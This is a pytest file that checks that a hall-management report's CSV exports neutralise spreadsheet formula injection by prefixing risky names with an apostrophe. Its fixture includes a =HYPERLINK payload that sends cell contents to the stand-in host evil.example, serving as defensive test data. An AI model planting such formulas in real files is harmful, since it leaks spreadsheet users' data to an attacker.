"""The report's CSV files never hand a spreadsheet a formula: names an administrator set (queues,
services, windows, clerks) that start like one are written as text, with a leading apostrophe."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from hall.report import TABLES, csv_bytes
from hall.report.figures import Report
from tests.hall.report.conftest import by, report_of, rows_of
from tests.hall.report.scripted_day import PlayedDay

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=1+2",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
]


@pytest.fixture(scope="module")
def poisoned(played: PlayedDay) -> Report:
    """The scripted day's report with every name an administrator sets replaced by a formula."""
    report = report_of(played)
    names = iter(FORMULAS * 20)
    return replace(
        report,
        queues=tuple(replace(line, name=next(names)) for line in report.queues),
        services=tuple(replace(line, name=next(names)) for line in report.services),
        windows=tuple(replace(line, name=next(names)) for line in report.windows),
        clerks=tuple(replace(line, name=next(names)) for line in report.clerks),
        issued=tuple(replace(line, name=next(names)) for line in report.issued),
        cases=tuple(
            replace(c, window_name=next(names), clerk_name=next(names)) for c in report.cases
        ),
    )


def test_names_that_start_a_formula_are_written_as_text(poisoned: Report) -> None:
    windows = by(rows_of(poisoned, "windows"), "ID")
    written = {row["Window"] for row in windows.values()}
    expected = {"'" + line.name for line in poisoned.windows}
    assert written == expected and all(name.startswith("'") for name in written)
    waits = by(rows_of(poisoned, "waits"), "Kind", "ID")
    assert {row["Name"] for row in waits.values()} >= {"'" + q.name for q in poisoned.queues}


@pytest.mark.parametrize("lang", ["zh-CN", "en"])
def test_no_cell_of_any_table_starts_a_formula(poisoned: Report, lang: str) -> None:
    for table in TABLES:
        text = csv_bytes(poisoned, table, lang).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            risky = [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
            assert risky == [], table


def test_numbers_and_plain_names_are_written_as_before(played: PlayedDay) -> None:
    waits = by(rows_of(report_of(played), "waits"), "Kind", "ID")
    assert waits["Queue", "A"]["Name"] == "综合受理"
    assert waits["Queue", "A"]["Called"] == "7"
